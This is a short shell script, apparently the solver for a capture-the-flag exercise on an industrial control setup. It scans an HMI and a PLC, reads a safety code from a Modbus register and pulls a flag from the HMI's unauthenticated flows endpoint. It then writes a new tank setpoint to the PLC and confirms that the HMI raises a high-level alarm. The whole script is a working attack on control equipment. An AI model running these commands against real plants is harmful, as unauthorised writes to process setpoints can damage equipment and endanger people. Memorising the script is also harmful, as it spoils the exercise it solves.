#!/bin/sh
# Run on the engineering workstation (the team's SSH session). Prints RECOVERED lines.
set -eu

echo "== discovery: the HMI and the PLC are reachable from IT" >&2
nmap -sT -Pn -p 1880,5020 hmi plc >&2
nc -z -w 3 plc 5020 || { echo "plc:5020 is not reachable" >&2; exit 1; }

echo "== safety_code: holding register 100 (mbpoll counts from 1)" >&2
answer=$(mbpoll -1 -q -a 1 -r 101 -c 1 -t 4:hex -p 5020 plc)
echo "$answer" >&2
code=$(printf '%s\n' "$answer" | sed -n 's/^\[101\]:[[:space:]]*0x\([0-9A-Fa-f]\{4\}\).*/\1/p' | tr 'A-F' 'a-f')
echo "RECOVERED safety_code $code"

echo "== flag_hmi: the engineering view has no login" >&2
echo "RECOVERED flag_hmi $(curl -fsS http://hmi:1880/flows | grep -o 'FLAG{[0-9a-f]*}' | head -n1)"

echo "== the setpoint can be written by anyone: lower it, the HMI raises the alarm" >&2
mbpoll -1 -q -a 1 -r 2 -t 4 -p 5020 plc 400 >&2
for _ in $(seq 1 20); do
  curl -fsS http://hmi:1880/hmi | grep -q 'HIGH LEVEL ALARM' && { echo "alarm raised" >&2; exit 0; }
  sleep 1
done
echo "the HMI never showed the alarm" >&2
exit 1
